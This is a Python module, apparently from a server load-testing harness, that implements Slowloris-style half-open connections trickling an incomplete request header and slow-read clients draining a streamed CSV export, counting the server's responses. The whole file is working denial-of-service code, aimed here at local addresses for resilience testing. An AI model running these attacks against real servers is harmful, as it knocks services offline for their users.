"""Attacks by connections: half-open requests, and clients that read an export slowly."""

import asyncio
import contextlib
import socket

from tidemill_bench.attack_requests import STREAM_RESOURCE, Attacker, repeat, repeat_concurrently

HALF_OPEN_CONNECTIONS = 400
HALF_OPEN_ADDRESSES = tuple(f"127.0.0.{n}" for n in range(3, 7))
TRICKLE_INTERVAL_S = 5.0
HALF_OPEN_S = 30.0
RECONNECT_PAUSE_S = 2.0
SLOW_READERS = 12
SLOW_READ_BYTES, SLOW_READ_S = 2_000, 1.0
RECEIVE_BUFFER_BYTES = 4_096


async def hold_half_open_connections(me: Attacker) -> None:
    """Open connections from several addresses, and send the head of a request byte by byte, without its end."""

    async def hold(number: int) -> None:
        local = HALF_OPEN_ADDRESSES[number % len(HALF_OPEN_ADDRESSES)]
        await asyncio.sleep(RECONNECT_PAUSE_S * number / HALF_OPEN_CONNECTIONS)
        await repeat(RECONNECT_PAUSE_S, lambda: trickle_head(me, local))

    async with asyncio.TaskGroup() as group:
        for number in range(HALF_OPEN_CONNECTIONS):
            group.create_task(hold(number))


async def trickle_head(me: Attacker, local_address: str) -> None:
    try:
        reader, writer = await asyncio.open_connection(*me.address, local_addr=(local_address, 0))
    except OSError as error:
        me.statuses[type(error).__name__] += 1
        return
    with contextlib.closing(writer), contextlib.suppress(OSError, TimeoutError):
        writer.write(b"GET /v1 HTTP/1.1\r\nX-Long: ")
        answer = asyncio.create_task(reader.read(1_000))
        try:
            async with asyncio.timeout(HALF_OPEN_S):
                while not answer.done():
                    writer.write(b"a")
                    await asyncio.wait([answer], timeout=TRICKLE_INTERVAL_S)
            me.statuses[_parse_status(answer.result())] += 1
        finally:
            answer.cancel()


async def read_streams_slowly(me: Attacker) -> None:
    await repeat_concurrently(SLOW_READERS, 1, lambda: read_stream_slowly(me))


async def read_stream_slowly(me: Attacker) -> None:
    """Read a streamed export with 2,000 bytes a second, until the server ends it."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, RECEIVE_BUFFER_BYTES)
    connection.bind((me.local_address, 0))
    connection.setblocking(False)
    loop = asyncio.get_running_loop()
    with connection:
        try:
            await loop.sock_connect(connection, me.address)
            head = f"GET /v1/exports?resource={STREAM_RESOURCE}&format=csv HTTP/1.1\r\nHost: x\r\n"
            await loop.sock_sendall(connection, f"{head}Authorization: Bearer {me.key}\r\n\r\n".encode())
            data = await loop.sock_recv(connection, SLOW_READ_BYTES)
            me.statuses[_parse_status(data)] += 1
            if not data.startswith(b"HTTP/1.1 200"):
                return
            while data:
                await asyncio.sleep(SLOW_READ_S)
                data = await loop.sock_recv(connection, SLOW_READ_BYTES)
        except OSError as error:
            me.statuses[type(error).__name__] += 1
            return
    me.statuses["ended by the server"] += 1


def _parse_status(response: bytes) -> str:
    words = response.split(b" ", 2)
    return words[1].decode("latin-1") if len(words) > 1 else "closed"
